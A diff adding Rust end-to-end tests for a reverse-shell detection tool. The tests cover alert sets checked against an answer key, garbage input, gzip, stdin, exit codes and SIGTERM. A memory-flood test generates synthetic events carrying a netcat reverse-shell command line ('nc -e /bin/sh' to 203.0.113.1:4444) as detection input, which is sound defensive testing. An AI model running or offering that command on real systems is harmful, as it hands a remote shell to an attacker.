@@ -1,0 +1,387 @@
+//! The `eqlc-detect` binary (built with the bundled, generated rule pack) end to end:
+//! exact alert sets against the generator's answer key, garbage lines, gzip, stdin,
+//! several inputs, exit codes, SIGTERM, a flood of unique entities under a memory cap,
+//! and agreement with the hand-written baseline binary.
+
+use std::collections::BTreeSet;
+use std::io::{Read, Write};
+use std::path::PathBuf;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use eqlc_detector::gen::{generate, GenConfig, Truth, SEED_RULE_ID};
+
+const BIN: &str = env!("CARGO_BIN_EXE_eqlc-detect");
+const BASELINE: &str = env!("CARGO_BIN_EXE_eqlc-detect-baseline");
+const GEN: &str = env!("CARGO_BIN_EXE_eqlc-gen");
+
+type AlertSet = BTreeSet<(String, Vec<String>)>;
+
+fn tmp(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("eqlc-detector-cli-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    dir.join(name)
+}
+
+fn alert_set(stdout: &[u8]) -> AlertSet {
+    String::from_utf8_lossy(stdout)
+        .lines()
+        .map(|l| {
+            let a: serde_json::Value = serde_json::from_str(l).expect("alert line is JSON");
+            (
+                a["kibana.alert.rule.rule_id"].as_str().unwrap().to_string(),
+                a["eqlc.events"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .map(|e| e["event"]["id"].as_str().unwrap_or("<missing>").to_string())
+                    .collect(),
+            )
+        })
+        .collect()
+}
+
+fn truth_set(t: &Truth) -> AlertSet {
+    t.alerts()
+        .map(|p| (SEED_RULE_ID.to_string(), p.event_ids.clone()))
+        .collect()
+}
+
+fn generated(cfg: &GenConfig) -> (Vec<u8>, Truth) {
+    let mut out = Vec::new();
+    let mut truth = Truth::default();
+    generate(cfg, &mut out, Some(&mut truth)).unwrap();
+    (out, truth)
+}
+
+fn run(bin: &str, args: &[&str], stdin: Option<&[u8]>) -> std::process::Output {
+    let mut child = Command::new(bin)
+        .args(args)
+        .stdin(if stdin.is_some() {
+            Stdio::piped()
+        } else {
+            Stdio::null()
+        })
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    if let Some(data) = stdin {
+        let mut w = child.stdin.take().unwrap();
+        let data = data.to_vec();
+        std::thread::spawn(move || {
+            let _ = w.write_all(&data);
+        });
+    }
+    child.wait_with_output().unwrap()
+}
+
+#[test]
+fn list_rules() {
+    let out = run(BIN, &["--list-rules"], None);
+    assert!(out.status.success());
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.lines().any(|l| l
+        == "76e4d92b-61c1-4a95-ab61-5fd94179a1ee\tmedium\tPotential Reverse Shell via Suspicious Child Process"));
+}
+
+#[test]
+fn sample_file_alerts_match_the_answer_key() {
+    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/samples/sample.ndjson");
+    let truth: serde_json::Value = serde_json::from_slice(
+        &std::fs::read(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/samples/sample.truth.json"
+        ))
+        .unwrap(),
+    )
+    .unwrap();
+    let want: AlertSet = truth["alerts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| {
+            (
+                SEED_RULE_ID.to_string(),
+                a["event_ids"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .map(|x| x.as_str().unwrap().to_string())
+                    .collect(),
+            )
+        })
+        .collect();
+    let out = run(BIN, &[sample], None);
+    assert!(out.status.success());
+    assert_eq!(alert_set(&out.stdout), want);
+    let err = String::from_utf8(out.stderr).unwrap();
+    assert!(err.contains("2000 events"), "{err}");
+    assert!(err.contains("alerts: 13"), "{err}");
+    assert!(err.contains("bad lines: 0"), "{err}");
+    // the committed sample is what the documented command produces
+    let regen = Command::new(GEN)
+        .args([
+            "--events",
+            "2000",
+            "--seed",
+            "7",
+            "--shells",
+            "13",
+            "--near-misses",
+            "14",
+            "--hosts",
+            "12",
+        ])
+        .output()
+        .unwrap();
+    assert!(regen.status.success());
+    assert!(
+        regen.stdout == std::fs::read(sample).unwrap(),
+        "samples/sample.ndjson is stale"
+    );
+}
+
+#[test]
+fn generated_stream_with_garbage_gzip_stdin_and_several_inputs() {
+    let cfg1 = GenConfig {
+        events: 6000,
+        seed: 21,
+        shells: 26,
+        near_misses: 30,
+        hosts: 15,
+        ..GenConfig::default()
+    };
+    let cfg2 = GenConfig {
+        seed: 22,
+        start_ns: cfg1.start_ns + 86_400_000_000_000,
+        ..cfg1.clone()
+    };
+    let (s1, t1) = generated(&cfg1);
+    let (s2, t2) = generated(&cfg2);
+    let mut want = truth_set(&t1);
+    want.extend(truth_set(&t2));
+    assert_eq!(want.len(), 52);
+
+    // garbage interleaved in the first file
+    let mut dirty = Vec::new();
+    let mut n_bad = 0;
+    for (i, l) in s1
+        .split(|&b| b == b'\n')
+        .filter(|l| !l.is_empty())
+        .enumerate()
+    {
+        if i % 250 == 1 {
+            let g: &[u8] = match n_bad % 5 {
+                0 => b"{\"@timestamp\": oops}",
+                1 => b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"x\":\"\xc3\x28\"}",
+                2 => b"{\"@timestamp\":\"2024-13-01T00:00:00Z\"}",
+                3 => b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"process\":{\"args_count\":\"many\"}}",
+                _ => b"not json at all",
+            };
+            dirty.extend_from_slice(g);
+            dirty.push(b'\n');
+            n_bad += 1;
+        }
+        dirty.extend_from_slice(l);
+        dirty.push(b'\n');
+    }
+    // an overlong line
+    dirty.extend_from_slice(&vec![b'x'; 5000]);
+    dirty.push(b'\n');
+    n_bad += 1;
+    let f1 = tmp("one.ndjson");
+    std::fs::write(&f1, &dirty).unwrap();
+    // the second as gzip
+    let f2 = tmp("two.ndjson.gz");
+    {
+        let mut gz = flate2::write::GzEncoder::new(
+            std::fs::File::create(&f2).unwrap(),
+            flate2::Compression::fast(),
+        );
+        gz.write_all(&s2).unwrap();
+        gz.finish().unwrap();
+    }
+    let (p1, p2) = (f1.to_str().unwrap(), f2.to_str().unwrap());
+
+    let out = run(BIN, &["--max-line-bytes", "4K", p1, p2], None);
+    assert!(out.status.success());
+    assert_eq!(alert_set(&out.stdout), want);
+    let err = String::from_utf8(out.stderr).unwrap();
+    assert!(err.contains(&format!("bad lines: {n_bad} ")), "{err}");
+    assert!(err.contains(&format!("{p1}:2: bad line skipped")), "{err}");
+    assert!(err.contains("12000 events"), "{err}");
+
+    // stdin ('-') between files, gzip on stdin too
+    let gz = std::fs::read(&f2).unwrap();
+    let out = run(BIN, &["--max-line-bytes=4K", p1, "-"], Some(&gz));
+    assert!(out.status.success());
+    assert_eq!(alert_set(&out.stdout), want);
+
+    // no file = stdin
+    let out = run(BIN, &[], Some(&s1));
+    assert!(out.status.success());
+    assert_eq!(alert_set(&out.stdout), truth_set(&t1));
+
+    // the hand-written baseline agrees, alert for alert (same uuids)
+    let a = run(BIN, &[p1, p2], None);
+    let b = run(BASELINE, &[p1, p2], None);
+    let uuids = |o: &[u8]| {
+        String::from_utf8_lossy(o)
+            .lines()
+            .map(|l| {
+                serde_json::from_str::<serde_json::Value>(l).unwrap()["kibana.alert.uuid"]
+                    .to_string()
+            })
+            .collect::<BTreeSet<_>>()
+    };
+    assert_eq!(uuids(&a.stdout), uuids(&b.stdout));
+    assert_eq!(uuids(&a.stdout).len(), 52);
+}
+
+#[test]
+fn table_format_and_output_file() {
+    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/samples/sample.ndjson");
+    let out = run(BIN, &["--format", "table", "-q", sample], None);
+    assert!(out.status.success());
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert_eq!(
+        text.matches("MEDIUM   Potential Reverse Shell").count(),
+        13,
+        "{text}"
+    );
+    assert!(out.stderr.is_empty(), "--quiet");
+    let f = tmp("alerts.ndjson");
+    let out = run(BIN, &["-o", f.to_str().unwrap(), sample], None);
+    assert!(out.status.success());
+    assert!(out.stdout.is_empty());
+    assert_eq!(alert_set(&std::fs::read(&f).unwrap()).len(), 13);
+}
+
+#[test]
+fn exit_codes() {
+    let out = run(BIN, &["/nonexistent/events.ndjson"], None);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read input"));
+    let out = run(BIN, &["--bogus"], None);
+    assert_eq!(out.status.code(), Some(2));
+    let out = run(BIN, &["--reorder-window", "soon"], None);
+    assert_eq!(out.status.code(), Some(2));
+    let out = run(BIN, &[std::env::temp_dir().to_str().unwrap()], None);
+    assert_eq!(out.status.code(), Some(2));
+    // a corrupt gzip file: what was read is processed, the run ends with 2
+    let f = tmp("corrupt.gz");
+    let mut data = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
+    data.extend_from_slice(b"garbage that is not deflate");
+    std::fs::write(&f, data).unwrap();
+    let out = run(BIN, &[f.to_str().unwrap()], None);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("read error"));
+    let out = run(BIN, &["--help"], None);
+    assert!(out.status.success());
+}
+
+#[test]
+fn sigterm_flushes_alerts_prints_summary_and_exits_143() {
+    // With a one-hour reorder window nothing is released before the end of input; stdin
+    // stays open, so only the signal ends the run: every alert must still come out.
+    let input = std::fs::read(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/samples/sample.ndjson"
+    ))
+    .unwrap();
+    let mut child = Command::new(BIN)
+        .args(["--reorder-window", "1h", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    stdin.write_all(&input).unwrap();
+    stdin.flush().unwrap();
+    // wait until the detector has consumed the input (the pipe is drained)
+    std::thread::sleep(Duration::from_millis(1500));
+    let status = Command::new("kill")
+        .args(["-TERM", &child.id().to_string()])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let mut stdout = Vec::new();
+    child
+        .stdout
+        .take()
+        .unwrap()
+        .read_to_end(&mut stdout)
+        .unwrap();
+    let mut stderr = String::new();
+    child
+        .stderr
+        .take()
+        .unwrap()
+        .read_to_string(&mut stderr)
+        .unwrap();
+    let code = child.wait().unwrap().code();
+    drop(stdin);
+    assert_eq!(code, Some(143), "{stderr}");
+    assert_eq!(alert_set(&stdout).len(), 13, "{stderr}");
+    assert!(stderr.contains("2000 events"), "{stderr}");
+}
+
+fn vm_hwm_kib(pid: u32) -> Option<u64> {
+    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
+    s.lines()
+        .find(|l| l.starts_with("VmHWM:"))?
+        .split_whitespace()
+        .nth(1)?
+        .parse()
+        .ok()
+}
+
+#[test]
+fn flood_of_unique_entities_stays_under_the_memory_cap() {
+    let n: u64 = if cfg!(debug_assertions) {
+        200_000
+    } else {
+        1_000_000
+    };
+    let mut child = Command::new(BIN)
+        .args(["--max-pending", "10000", "--keep-bytes", "16M", "-"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    let mut stdin = child.stdin.take().unwrap();
+    let mut buf = String::with_capacity(1 << 21);
+    let mut peak = 0;
+    let start = Instant::now();
+    for i in 0..n {
+        // every event opens a partial under a new process.entity_id
+        buf.push_str(&format!(
+            "{{\"@timestamp\":\"2024-05-01T00:00:00.{:09}Z\",\"event\":{{\"category\":[\"process\"],\"type\":[\"start\"],\"action\":\"exec\",\"id\":\"e{i}\"}},\"host\":{{\"id\":\"h{}\",\"os\":{{\"type\":\"linux\"}}}},\"process\":{{\"entity_id\":\"ent-{i}\",\"name\":\"nc\",\"args\":[\"nc\",\"-e\",\"/bin/sh\",\"203.0.113.1\",\"4444\"],\"args_count\":5,\"parent\":{{\"name\":\"bash\"}}}}}}\n",
+            i * 900,
+            i % 50
+        ));
+        if buf.len() > 1 << 20 {
+            stdin.write_all(buf.as_bytes()).unwrap();
+            buf.clear();
+            peak = peak.max(vm_hwm_kib(pid).unwrap_or(0));
+        }
+    }
+    stdin.write_all(buf.as_bytes()).unwrap();
+    peak = peak.max(vm_hwm_kib(pid).unwrap_or(0));
+    drop(stdin);
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success());
+    let err = String::from_utf8(out.stderr).unwrap();
+    assert!(err.contains(&format!("evictions {}", n - 10_000)), "{err}");
+    assert!(peak > 0, "VmHWM readable");
+    // 10,000 partials + 16 MiB of lines + buffers: far below 200 MiB
+    assert!(peak < 200 * 1024, "peak RSS {peak} KiB");
+    eprintln!(
+        "flood: {n} events in {:?}, peak RSS {peak} KiB",
+        start.elapsed()
+    );
+}
